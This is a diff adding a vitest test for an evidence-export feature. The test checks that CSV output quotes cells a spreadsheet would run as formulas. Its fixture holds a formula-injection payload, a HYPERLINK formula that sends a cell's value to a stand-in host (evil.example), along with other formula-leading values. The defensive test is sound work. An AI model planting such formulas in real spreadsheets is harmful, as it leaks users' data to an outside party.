@@ -8,7 +8,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestVault, type TestVault } from '../test/helpers/services.js';
 import { appendSamples, createTestLedger, type TestLedger } from '../test/helpers/ledger.js';
 import { GatehouseError } from '../shared/errors.js';
-import { prepareEvidenceExport, type ExportRequest } from './evidence-export.js';
+import { parse as parseCsv } from 'csv-parse/sync';
+import { CSV_COLUMNS, prepareEvidenceExport, type ExportRequest } from './evidence-export.js';
 import { folderSink, zipSink } from './evidence-sink.js';
 import { verifyEvidence } from './evidence-verify.js';
 
@@ -236,5 +237,29 @@ describe('an edited export', () => {
     // ...and against the keys the auditor trusts, the forgery is named.
     const report = await verifyEvidence(dir, { trustedKeys: trusted });
     expect(kinds(report)).toEqual(expect.arrayContaining(['key-not-trusted', 'manifest-bad-signature']));
+  });
+});
+
+describe('CSV for spreadsheets', () => {
+  it('quotes cells a spreadsheet would run as a formula, and the export still verifies', async () => {
+    const { seq } = await t.ledger.append({
+      action: 'scim.user.created',
+      actor: { kind: 'idp', id: '@evil', display: '=HYPERLINK("https://evil.example/?"&A1,"click")' },
+      subject: { type: 'user', id: '+1-555', display: '-2+3' },
+      target: { type: 'directory', id: '\tcmd' },
+    });
+    const dir = await exportTo({ fromSeq: seq, toSeq: seq, format: 'csv' });
+    const [, row] = parseCsv(readFileSync(path.join(dir, 'entries.csv'), 'utf8')) as string[][];
+    const at = (column: string) => row![CSV_COLUMNS.indexOf(column as (typeof CSV_COLUMNS)[number])];
+    expect([at('actor_id'), at('actor_display'), at('subject_id'), at('subject_display'), at('target_id')]).toEqual([
+      "'@evil",
+      '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+      "'+1-555",
+      "'-2+3",
+      "'\tcmd",
+    ]);
+    // The hashed entry itself is unchanged: the last column still carries the values as recorded.
+    expect(JSON.parse(row!.at(-1)!)).toMatchObject({ actor: { id: '@evil' }, subject: { display: '-2+3' } });
+    expect((await verifyEvidence(dir)).problems).toEqual([]);
   });
 });
